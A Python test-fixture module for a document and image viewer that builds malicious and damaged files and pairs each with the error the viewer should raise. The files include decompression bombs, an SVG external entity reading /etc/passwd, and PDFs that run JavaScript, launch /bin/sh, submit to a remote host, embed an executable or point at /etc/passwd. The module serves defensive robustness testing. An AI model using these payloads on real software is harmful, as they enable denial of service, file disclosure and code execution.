"""Files made to do harm, or damaged beyond use; each with the errors that are a fair answer to it."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator

import pikepdf

from tests.viewer.samples import file_of, honest_files, pdf_of, two_halves
from viewer import errors

Refusals = tuple[type[errors.ViewerError], ...]

DAMAGED: Refusals = (errors.NotReadable,)
UNKNOWN: Refusals = (errors.UnknownKind,)
TOO_LARGE: Refusals = (errors.TooLarge,)
ANY: Refusals = (errors.NotReadable, errors.TooLarge, errors.TookTooLong, errors.ChildDied)


def hostile_pictures() -> Iterator[tuple[str, bytes, Refusals]]:
    """Name, bytes, errors."""
    for form, whole in honest_files().items():
        yield f"{form} cut in its header", whole[:20], (*DAMAGED, *UNKNOWN)
    yield "nothing at all", b"", UNKNOWN
    yield "one byte", b"\x89", UNKNOWN
    yield "a megabyte of zeros", bytes(1 << 20), UNKNOWN
    yield "a program", b"\x7fELF" + bytes(4096), UNKNOWN
    yield "PNG bomb of 50 000 × 50 000", png_bomb(50_000, 50_000), TOO_LARGE
    yield "PNG bomb of 11 000 × 11 000", png_bomb(11_000, 11_000), ANY
    yield "PNG of no pixels", png_bomb(0, 10), DAMAGED
    yield "PNG of 2^31 pixels a side", png_bomb(2**31 - 1, 2**31 - 1), (errors.TooLarge, errors.NotReadable)
    yield "PNG with a text of 100 MB", png_with_text_bomb(), DAMAGED
    yield "PNG with a wrong checksum in its header", corrupted(honest_files()["PNG"], 30), DAMAGED
    yield "BMP that says it is 50 000 × 50 000", bmp_header(50_000, 50_000), TOO_LARGE
    yield "BMP with a negative width", bmp_header(-50, 50), ANY
    yield "GIF of 65 535 × 65 535", gif_header(65_535, 65_535), TOO_LARGE
    yield "TIFF whose directory leads back to itself", tiff_loop(), DAMAGED
    yield "TIFF of 60 000 × 60 000", tiff_header(60_000, 60_000), TOO_LARGE
    yield "TIFF with a tag of 4 GB", tiff_header(10, 10, count=0xFFFFFFFF), ANY
    yield "HEIC of noise", honest_files()["HEIC"][:64] + bytes(range(256)) * 64, DAMAGED
    yield "HEIC whose boxes hold themselves", heic_of_boxes(), DAMAGED
    yield (
        "HEIC with a box of 2^63 bytes",
        b"\0\0\0\x01ftypheic" + struct.pack(">Q", 2**63) + bytes(64),
        DAMAGED,
    )
    yield "SVG with a file inside", svg(), UNKNOWN
    yield (
        "XBM, a picture in the words of C",
        b"#define i_width 9\n#define i_height 9\nstatic char i_bits[] = {0};",
        UNKNOWN,
    )
    yield (
        "EPS, which is a program",
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file",
        UNKNOWN,
    )
    yield "ICO, which nobody photographs with", file_of(two_halves(size=(32, 32)), "ICO"), UNKNOWN
    yield "a PDF", pdf_of(), UNKNOWN
    yield "a JPEG with a PNG's name inside", honest_files()["PNG"][:8] + honest_files()["JPEG"], DAMAGED


def hostile_pdfs() -> Iterator[tuple[str, bytes, Refusals]]:
    """PDFs that can not be drawn."""
    whole = pdf_of()
    for share in (0.02, 0.2, 0.4):
        yield f"PDF cut at {share:.0%}", whole[: int(len(whole) * share)], (*DAMAGED, *UNKNOWN)
    yield "PDF of noise", b"%PDF-1.7\n" + bytes(range(256)) * 64, DAMAGED
    yield "PDF of nothing", b"", UNKNOWN
    yield "PDF with a password", encrypted(), (errors.NeedsPassword,)
    yield "a picture", honest_files()["PNG"], UNKNOWN


def trap_pdfs() -> Iterator[tuple[str, bytes]]:
    """PDFs that can be drawn, and that would like to do more."""
    yield (
        "JavaScript when it is opened",
        with_action(S="/JavaScript", JS="app.alert(1); this.exportDataObject({})"),
    )
    yield "a program to start", with_action(S="/Launch", F="/bin/sh")
    yield "an address to be fetched", with_action(S="/URI", URI="http://192.0.2.1/seen")
    yield "a form to be sent", with_action(S="/SubmitForm", F="http://192.0.2.1/form")
    yield "another file to go to", with_action(S="/GoToR", F="/etc/passwd", D="page1")
    yield "a file inside", pdf_of(change=attach)
    yield "a stream that lies in another file", pdf_of(change=external_stream)
    yield "a page of a million miles", pdf_of(change=lambda pdf: box(pdf, [0, 0, 2e9, 1e9]))
    yield "a page of nothing", pdf_of(change=lambda pdf: box(pdf, [0, 0, 0, 0]))
    yield "a page inside out", pdf_of(change=lambda pdf: box(pdf, [200, 100, 0, 0]))
    yield "a page as thin as a thread", pdf_of(change=lambda pdf: box(pdf, [0, 0, 1e6, 0.001]))
    yield "a form that draws itself", pdf_of(change=self_drawing)
    yield "a hundred forms in forms, each twice", pdf_of(change=forms_in_forms)
    yield "an image of 100 000 × 100 000", pdf_of(change=image_bomb)
    yield "ten thousand lines", pdf_of(change=many_lines)


def png_bomb(width: int, height: int) -> bytes:
    """A PNG whose header asks for so many pixels, and whose data are zeros as far as 4 MB of it go."""
    rows = zlib.compress(bytes(1 << 22))
    return b"".join(
        (
            b"\x89PNG\r\n\x1a\n",
            png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)),
            png_chunk(b"IDAT", rows),
            png_chunk(b"IEND", b""),
        )
    )


def png_chunk(kind: bytes, content: bytes) -> bytes:
    """One part of a PNG, with its right checksum."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_with_text_bomb() -> bytes:
    """A PNG with a compressed comment of 100 MB."""
    whole = honest_files()["PNG"]
    packer = zlib.compressobj()
    text = b"".join(packer.compress(bytes(1 << 20)) for _ in range(100)) + packer.flush()
    return whole[:33] + png_chunk(b"zTXt", b"Comment\0\0" + text) + whole[33:]


def corrupted(content: bytes, place: int) -> bytes:
    """One byte turned round."""
    changed = bytearray(content)
    changed[place] ^= 0xFF
    return bytes(changed)


def bmp_header(width: int, height: int) -> bytes:
    """A BMP with nothing but its headers."""
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + header + bytes(256)


def gif_header(width: int, height: int) -> bytes:
    """A GIF whose one frame claims the whole of a huge screen."""
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", width, height, 0, 0, 0)
        + b","
        + struct.pack("<HHHHB", 0, 0, width, height, 0)
        + b"\x02\x02\x4c\x01\0;"
    )


def tiff_header(width: int, height: int, count: int = 1) -> bytes:
    """A TIFF of a directory alone."""
    tags = (
        (256, width),
        (257, height),
        (258, 8),
        (259, 1),
        (262, 1),
        (273, 8),
        (277, 1),
        (278, height),
        (279, 64),
    )
    entries = b"".join(struct.pack("<HHII", tag, 4, count, value) for tag, value in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + bytes(4)


def tiff_loop() -> bytes:
    """A TIFF whose directory names itself as the next one."""
    return b"II*\0" + struct.pack("<IHI", 8, 0, 8)


def heic_of_boxes() -> bytes:
    """Two thousand boxes, one in the other."""
    box = b""
    for _ in range(2000):
        box = struct.pack(">I", len(box) + 12) + b"meta" + bytes(4) + box
    return b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + box


def svg() -> bytes:
    """A picture that names a file and an address."""
    return (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://192.0.2.1/a.png"/><text>&x;</text></svg>'
    )


def encrypted() -> bytes:
    """A PDF that asks for a password."""
    pdf, file = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    pdf.save(file, encryption=pikepdf.Encryption(user="one", owner="two"))
    return file.getvalue()


def with_action(**action: str) -> bytes:
    """A PDF with something to be done when it is opened, when its page is, and when a link on it is touched."""
    made = pikepdf.Dictionary(
        {f"/{name}": pikepdf.Name(text) if name == "S" else text for name, text in action.items()}
    )

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = made
        pdf.pages[0].AA = pikepdf.Dictionary(O=made)
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 99, 99], A=made
        )
        pdf.pages[0].Annots = pikepdf.Array([link])

    return pdf_of(change=change)


def attach(pdf: pikepdf.Pdf) -> None:
    """Put a program into it."""
    pdf.attachments["run.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(1000), filename="run.exe")


def external_stream(pdf: pikepdf.Pdf) -> None:
    """Draw a picture whose bytes are said to be in a file of this machine."""
    image = pdf.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=8, Height=8)
    image.ColorSpace, image.BitsPerComponent, image.F = pikepdf.Name.DeviceGray, 8, "/etc/passwd"
    draw(pdf, image, b"100 0 0 100 0 0 cm /X Do")


def box(pdf: pikepdf.Pdf, sides: list[float]) -> None:
    """Say how large the page is."""
    pdf.pages[0].MediaBox = pikepdf.Array([pikepdf.Object.parse(f"{side:f}".encode()) for side in sides])


def draw(pdf: pikepdf.Pdf, thing: pikepdf.Object, how: bytes) -> None:
    """Draw something called X."""
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=thing))
    pdf.pages[0].Contents = pdf.make_stream(how)


def form(pdf: pikepdf.Pdf, content: bytes) -> pikepdf.Object:
    """A drawing to be used in drawings."""
    return pdf.make_stream(
        content, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 200, 100]
    )


def self_drawing(pdf: pikepdf.Pdf) -> None:
    """A drawing that is drawn in itself."""
    made = form(pdf, b"/X Do")
    made.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=made))
    draw(pdf, made, b"/X Do")


def forms_in_forms(pdf: pikepdf.Pdf) -> None:
    """Two to the power of a hundred squares."""
    made = form(pdf, b"0 0 9 9 re f")
    for _ in range(100):
        outer = form(pdf, b"/X Do /X Do")
        outer.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=made))
        made = outer
    draw(pdf, made, b"/X Do")


def image_bomb(pdf: pikepdf.Pdf) -> None:
    """An image that claims ten thousand million pixels."""
    image = pdf.make_stream(
        zlib.compress(bytes(1 << 20)), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image
    )
    image.Width, image.Height, image.Filter = 100_000, 100_000, pikepdf.Name.FlateDecode
    image.ColorSpace, image.BitsPerComponent = pikepdf.Name.DeviceRGB, 8
    draw(pdf, image, b"100 0 0 100 0 0 cm /X Do")


def many_lines(pdf: pikepdf.Pdf) -> None:
    """A page that takes its time."""
    pdf.pages[0].Contents = pdf.make_stream(b"0 0 m 200 100 l S\n" * 10_000)
